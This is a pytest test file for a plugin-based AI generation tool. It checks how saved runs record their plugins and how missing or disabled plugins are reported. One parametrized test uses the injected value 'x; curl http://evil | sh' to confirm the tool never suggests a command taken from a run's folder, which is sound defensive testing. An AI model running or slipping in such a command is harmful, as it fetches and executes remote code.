"""A run says which plugins made it, and is readable without them."""

import json

import pytest


@pytest.fixture
def needs(quick_run):
    """Change what the run's ``environment.json`` says that it needs."""
    path = quick_run.path / "environment.json"
    environment = json.loads(path.read_text())

    def change(value: object) -> dict:
        before = environment["needs"]
        environment["needs"] = value
        path.write_text(json.dumps(environment))
        return before

    return change


def test_a_run_remembers_its_plugins(needs) -> None:
    image = {"plugin": "image", "distribution": "aigc-image"}
    assert needs({}) == {"recipe": image, "modality": image, "dataset": image}


@pytest.fixture
def of_a_gone_plugin(quick_run, needs):
    """Make the run one of a recipe that no plugin here brings."""
    path = quick_run.path / "config.yaml"
    path.write_text(path.read_text().replace("recipe: image/dcgan", "recipe: points/gan"))

    def change(distribution: object) -> None:
        needs({"recipe": {"plugin": "points", "distribution": distribution}})

    return change


@pytest.mark.parametrize("command", ["generate", "resume", "evaluate"])
def test_a_plugin_that_is_gone_is_named_with_the_way_to_get_it(
    aigc, quick_run, of_a_gone_plugin, command
) -> None:
    of_a_gone_plugin("aigc-points")
    result = aigc(command, quick_run.path)
    assert result.code == 2
    assert "needs the recipe 'points/gan' of the plugin aigc-points" in result.err
    assert "aigc plugins install aigc-points" in result.err


@pytest.mark.parametrize("distribution", ["x; curl http://evil | sh", ["aigc", "x"], None, "-r x"])
def test_a_run_s_folder_cannot_suggest_a_command(
    aigc, quick_run, of_a_gone_plugin, distribution
) -> None:
    of_a_gone_plugin(distribution)
    result = aigc("generate", quick_run.path)
    assert result.code == 2
    assert "There is no recipe 'points/gan'" in result.err
    assert "install" not in result.err


def test_another_plugin_that_brings_the_same_will_do(aigc, quick_run, needs) -> None:
    needs({"recipe": {"plugin": "old-name", "distribution": "aigc-old-name"}})
    assert aigc("generate", quick_run.path, "--count", 1).code == 0


def test_a_plugin_that_is_switched_off_is_named_with_the_way_back(aigc, quick_run) -> None:
    aigc("plugins", "disable", "image")
    result = aigc("generate", quick_run.path)
    assert result.code == 2
    assert "needs the recipe 'image/dcgan' of the plugin 'image', which is not" in result.err
    assert "aigc plugins enable image" in result.err
    assert aigc("runs", quick_run.path.parent, "--json").code == 0


@pytest.mark.parametrize("value", [None, [], "x", {"recipe": "image"}, {"recipe": {"plugin": 5}}])
def test_a_run_of_before_or_with_a_damaged_note_still_works(aigc, quick_run, needs, value) -> None:
    needs(value)
    assert aigc("generate", quick_run.path, "--count", 1).code == 0
